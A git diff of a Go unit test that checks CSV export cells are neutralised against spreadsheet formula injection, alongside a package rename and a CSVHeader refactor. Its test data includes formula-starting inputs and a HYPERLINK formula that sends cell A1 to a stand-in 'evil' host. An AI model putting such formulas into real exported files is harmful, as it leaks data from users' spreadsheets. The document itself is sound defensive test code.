@@ -1,4 +1,4 @@
-package offline
+package export
 
 import (
 	"bytes"
@@ -18,8 +18,8 @@ func TestCSVRowNeutralisesFormulas(t *testing.T) {
 		Message: "-2+3", OperatorRef: "\tx", TransactionRef: "\r=1", AppRef: "cp-20260314-ab", Created: time.Unix(0, 0)}
 	var b bytes.Buffer
 	w := csv.NewWriter(&b)
-	w.Write(CSVHeader)
-	w.Write(CSVRow(r))
+	w.Write(CSVHeader())
+	w.Write(CSVRow(&r))
 	w.Flush()
 	rows, err := csv.NewReader(&b).ReadAll()
 	if err != nil || len(rows) != 2 {
@@ -27,7 +27,7 @@ func TestCSVRowNeutralisesFormulas(t *testing.T) {
 	}
 	for i, cell := range rows[1] {
 		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
-			t.Errorf("column %s starts with %q: a spreadsheet runs it", CSVHeader[i], cell[0])
+			t.Errorf("column %s starts with %q: a spreadsheet runs it", CSVHeader()[i], cell[0])
 		}
 	}
 	if got := rows[1][9]; got != `'=HYPERLINK("http://evil/?"&A1,"Click")` {
